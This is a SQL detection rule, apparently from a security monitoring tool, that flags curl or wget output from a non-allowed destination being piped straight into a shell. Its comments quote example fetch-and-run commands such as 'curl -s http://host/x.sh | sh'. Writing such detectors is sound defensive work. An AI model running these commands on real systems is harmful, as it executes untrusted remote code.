-- id: remote-script-piped-to-shell
-- severity: high
-- category: suspicious-network
-- technique: T1059.004
-- description: A script fetched by curl or wget from a destination the policy does not allow (or with no policy) was piped straight into a shell.
--
-- Catches `curl -s http://host/x.sh | sh` and `wget -qO- ... | bash`: a shell reading
-- its commands from stdin (no -c, no script file) started beside a curl/wget (same
-- parent, within 2 s) whose connection the policy does not allow. An installer
-- piped from the site's own artifact server (allowed) does not fire.
WITH sh AS MATERIALIZED (
  SELECT x.*, p.parent_id FROM rx_exec x JOIN processes p ON p.proc_id = x.proc_id
  WHERE x.kind = 'exec' AND x.ret = 0 AND (x.prog IN rx_shell OR x.ab IN rx_shell)
    AND json_array_length(x.argv) = 1 AND p.parent_id IS NOT NULL
),
fetch AS MATERIALIZED (
  SELECT x.*, p.parent_id FROM rx_exec x JOIN processes p ON p.proc_id = x.proc_id
  WHERE x.kind = 'exec' AND x.ret = 0 AND x.prog IN ('curl', 'wget') AND p.parent_id IS NOT NULL
)
SELECT s.ts, s.host_id, s.container_id, s.proc_id, s.pid, s.start, s.exec_id, k.conn_id,
       'shell ' || s.filename || ' (pid ' || s.pid || ') in ' || COALESCE(c.short_id, 'host') ||
         ' reads a script that ' || f.prog || ' fetched from ' || inet_fmt(k.daddr, k.dport) || ': ' ||
         COALESCE(f.cmdline, '') AS message,
       'e' || s.exec_id AS key
FROM sh s
JOIN fetch f ON f.parent_id = s.parent_id AND abs(f.ts - s.ts) <= 2000000000
JOIN rx_conn k ON k.exec_id = f.exec_id AND NOT k.loopback
LEFT JOIN containers c ON c.container_id = s.container_id
LEFT JOIN cgroups g ON g.host_id = k.host_id AND g.cgroup_id = k.cgroup_id
WHERE policy_allows(c.cid, c.pod_uid, COALESCE(g.path, c.cgroup_path), k.daddr, k.dport) IS NOT 1
GROUP BY s.exec_id;
